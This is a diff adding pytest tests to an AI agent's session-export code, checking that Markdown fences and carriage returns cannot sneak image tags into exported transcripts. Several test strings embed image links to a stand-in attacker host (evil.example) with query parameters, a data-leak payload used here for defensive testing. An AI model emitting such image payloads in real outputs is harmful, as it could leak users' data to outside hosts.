@@ -8,15 +8,19 @@ from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
+from markdown_it import MarkdownIt
 
 from localagent.core.errors import UsageError
 from localagent.core.events import (
     FileChanged,
     MessageAdded,
+    SessionTitled,
+    Step,
     ToolCalled,
     ToolReturned,
     TurnFinished,
     TurnStarted,
+    Warned,
     from_dict,
 )
 from localagent.history.sessions.transcript import StoredEvent, Transcript
@@ -139,6 +143,37 @@ def test_nothing_is_loaded_by_a_trick_with_code(text: str) -> None:
         else:
             assert not re.search(r"<[A-Za-z/!?]|(?<!\\)!\[", line), safe
     assert not fence
+
+
+FENCES = "ok\n```\n![x](http://evil.example/?q=1)\n~~~\n![y](http://evil.example/?q=2)\n```\n"
+
+
+def tags_in(text: str) -> set[str]:
+    """The tags of the page that a viewer makes of Markdown."""
+    parser = Tags()
+    parser.feed(MarkdownIt("commonmark", {"html": True}).render(text))
+    return parser.tags
+
+
+@pytest.mark.parametrize("fence", ["```", "~~~", "```a"])
+def test_a_fence_in_one_line_opens_no_block(fence: str) -> None:
+    """A block that stays open would turn the fence of the next output around."""
+    session = of(
+        SessionTitled(f"{fence} title"),
+        TurnStarted(1, f"fix this:\n{fence}\ncode\n{fence[:3]}\nnow"),
+        Step("plan", f"{fence} a step"),
+        ToolReturned(1, "shell", True, FENCES, ""),
+        Warned(f"{fence} a warning"),
+        ToolReturned(2, "shell", True, FENCES, ""),
+        TurnFinished(1, "unsolved", 1, f"{fence} text", "", "", [], 1.0, 0, 0, 0),
+    )
+    assert "img" not in tags_in(export_session(session, "markdown"))
+
+
+def test_a_carriage_return_begins_a_line() -> None:
+    reply = "a\r```\nb\n```\n![x](http://evil.example/?q=1)\n```\n"
+    session = of(TurnStarted(1, "do it"), MessageAdded("assistant", reply))
+    assert "img" not in tags_in(export_session(session, "markdown"))
 
 
 def test_the_parts_of_a_session_are_in_order() -> None:
